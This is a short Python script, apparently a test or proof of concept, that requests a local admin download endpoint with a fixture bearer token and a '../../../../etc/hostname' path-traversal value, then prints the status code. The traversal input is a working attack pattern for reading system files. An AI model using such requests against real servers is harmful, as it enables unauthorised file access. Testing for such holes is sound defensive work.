import requests

TOKEN = "eyJhbGciOiJIUzI1NiJ9.fixture"
URL = "http://127.0.0.1:8080/admin/download?file=../../../../etc/hostname"
print(requests.get(URL, headers={"Authorization": "Bearer " + TOKEN}).status_code)
